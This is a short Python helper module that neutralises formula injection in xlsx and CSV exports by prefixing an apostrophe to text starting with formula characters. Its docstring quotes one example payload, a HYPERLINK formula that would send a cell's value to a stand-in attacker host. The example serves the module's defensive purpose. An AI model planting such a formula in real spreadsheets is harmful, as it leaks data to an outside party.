"""One helper for every text cell the platform writes into a spreadsheet (xlsx or CSV).

Excel and LibreOffice treat a cell that starts with = + - @ (or a tab / carriage return before
one) as a formula: a unit named =HYPERLINK("http://evil.example/?p="&C4,"单位") would become a
live link in the city's matrix. openpyxl stores any string starting with "=" as a formula, so
text from data goes through ``safe_cell`` and is written as plain text.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_text(value: str) -> str:
    """The text, prefixed with an apostrophe when a spreadsheet would read it as a formula."""
    if value and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_cell(value: Any) -> Any:
    """Numbers, dates, booleans and None pass unchanged; text is made safe (see ``safe_text``)."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def safe_row(values: list[Any] | tuple[Any, ...]) -> list[Any]:
    return [safe_cell(v) for v in values]
